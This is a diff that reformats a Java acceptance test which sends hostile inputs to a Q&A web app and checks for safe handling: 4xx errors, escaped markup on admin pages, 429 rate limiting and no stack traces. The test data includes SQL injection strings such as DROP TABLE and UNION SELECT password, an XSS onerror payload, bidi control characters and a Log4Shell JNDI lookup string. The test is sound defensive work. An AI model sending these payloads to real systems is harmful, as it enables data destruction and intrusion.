@@ -30,10 +30,11 @@ import tools.jackson.databind.json.JsonMapper;
 import static org.assertj.core.api.Assertions.assertThat;
 
 /**
- * Issue 7's "done when" against the running app, as an attacker would try it: every malformed request gets a 4xx,
- * hostile but well-formed questions get a normal reply, zero-width characters do not break matching, markup is shown
- * as text on the admin pages, a flood from one session meets 429s while another is served, and the app stays up with
- * no stack trace in its log.
+ * Issue 7's "done when" against the running app, as an attacker would try it: every
+ * malformed request gets a 4xx, hostile but well-formed questions get a normal reply,
+ * zero-width characters do not break matching, markup is shown as text on the admin
+ * pages, a flood from one session meets 429s while another is served, and the app stays
+ * up with no stack trace in its log.
  */
 @AppTest
 @ExtendWith(OutputCaptureExtension.class)
@@ -78,9 +79,9 @@ class HostileInputAcceptanceTest {
 	void hostileButWellFormedQuestionsGetANormalReply(CapturedOutput output) throws Exception {
 		int logBefore = output.getAll().length();
 		for (String question : List.of("质量月\u0000\u0007\u001b[31m的主题\u0008是什么", "\u202e什么是主题\u202c的月量质",
-				"\u2066质量月\u2069的\u200f主题\u061c是什么", "质量月的主题是什么'; DROP TABLE query_log; --",
-				"' OR '1'='1", "1 UNION SELECT password FROM users", SCRIPT, "<img src=x onerror=alert(1)>投诉电话",
-				"😂".repeat(400), "👨‍👩‍👧‍👦🇨🇳".repeat(20), "\uD800\uDC00\uDBFF", "${jndi:ldap://example.org/a}",
+				"\u2066质量月\u2069的\u200f主题\u061c是什么", "质量月的主题是什么'; DROP TABLE query_log; --", "' OR '1'='1",
+				"1 UNION SELECT password FROM users", SCRIPT, "<img src=x onerror=alert(1)>投诉电话", "😂".repeat(400),
+				"👨‍👩‍👧‍👦🇨🇳".repeat(20), "\uD800\uDC00\uDBFF", "${jndi:ldap://example.org/a}",
 				"\uFEFF\uFEFF质量月\uFE0F\uFE0F的时间")) {
 			HttpResponse<String> reply = post("application/json",
 					"{\"text\":" + quoted(question) + ",\"sessionId\":\"hostile\"}");
@@ -90,7 +91,8 @@ class HostileInputAcceptanceTest {
 			assertThat(body.get("answer").asString()).as(question).isNotBlank();
 		}
 		// the query log took all of them and is still there
-		assertThat(app.get("/api/v1/admin/unanswered?status=all", RunningApp.ADMIN_PASSWORD).statusCode()).isEqualTo(200);
+		assertThat(app.get("/api/v1/admin/unanswered?status=all", RunningApp.ADMIN_PASSWORD).statusCode())
+			.isEqualTo(200);
 		assertNoStackTrace(output, logBefore);
 	}
 
@@ -106,10 +108,11 @@ class HostileInputAcceptanceTest {
 	void aScriptAskedAsAQuestionIsShownAsTextOnTheAdminPages() throws Exception {
 		HttpResponse<String> asked = app.ask(SCRIPT, "script");
 		assertThat(json.readTree(asked.body()).get("answered").asBoolean()).isFalse();
-		// as it is stored (normalised), and as a channel that passed markup on unchanged would store it
+		// as it is stored (normalised), and as a channel that passed markup on unchanged
+		// would store it
 		for (ConversationListener listener : app.context().getBeansOfType(ConversationListener.class).values()) {
-			listener.onReply(new Question(SCRIPT, "s", "web"), new Reply("script-raw", Outcome.DECLINED, null, 0.1, "", null,
-					List.of(), List.of(), List.of(), SCRIPT, "v"));
+			listener.onReply(new Question(SCRIPT, "s", "web"), new Reply("script-raw", Outcome.DECLINED, null, 0.1, "",
+					null, List.of(), List.of(), List.of(), SCRIPT, "v"));
 		}
 		for (String page : List.of("/admin", "/admin/unanswered")) {
 			String html = awaitPage(page, "&lt;script&gt;alert(&#39;质量月&#39;)&lt;/script&gt;");
@@ -132,8 +135,8 @@ class HostileInputAcceptanceTest {
 			HttpResponse<String> response = reply.get();
 			if (response.statusCode() == 429) {
 				limited++;
-				assertThat(response.headers().firstValue("Retry-After")).hasValueSatisfying(
-						v -> assertThat(Long.parseLong(v)).isBetween(1L, 60L));
+				assertThat(response.headers().firstValue("Retry-After"))
+					.hasValueSatisfying(v -> assertThat(Long.parseLong(v)).isBetween(1L, 60L));
 			}
 			else {
 				assertThat(response.statusCode()).isEqualTo(200);
@@ -164,22 +167,29 @@ class HostileInputAcceptanceTest {
 	}
 
 	private static void assertNoStackTrace(CapturedOutput output, int from) {
-		assertThat(output.getAll().substring(from).lines().filter(l -> l.startsWith("\tat ") || l.contains("Exception")))
+		assertThat(
+				output.getAll().substring(from).lines().filter(l -> l.startsWith("\tat ") || l.contains("Exception")))
 			.as("the log while handling these requests")
 			.isEmpty();
 	}
 
 	private void assertClientError(HttpResponse<String> response, int status) {
 		assertThat(response.statusCode()).as(response.body()).isEqualTo(status);
-		assertThat(response.headers().firstValue("Content-Type")).hasValueSatisfying(t -> assertThat(t).contains("json"));
+		assertThat(response.headers().firstValue("Content-Type"))
+			.hasValueSatisfying(t -> assertThat(t).contains("json"));
 		assertThat(response.body()).contains("\"message\"");
 	}
 
-	/** A JSON string with every control character escaped, as a well-behaved client sends it. */
+	/**
+	 * A JSON string with every control character escaped, as a well-behaved client sends
+	 * it.
+	 */
 	private static String quoted(String s) {
 		StringBuilder out = new StringBuilder("\"");
-		s.chars().forEach(c -> out.append(c < 0x20 || c == '"' || c == '\\' || (c >= 0x7F && c <= 0x9F)
-				|| Character.isSurrogate((char) c) ? "\\u%04x".formatted(c) : String.valueOf((char) c)));
+		s.chars()
+			.forEach(c -> out
+				.append(c < 0x20 || c == '"' || c == '\\' || (c >= 0x7F && c <= 0x9F) || Character.isSurrogate((char) c)
+						? "\\u%04x".formatted(c) : String.valueOf((char) c)));
 		return out.append('"').toString();
 	}
 
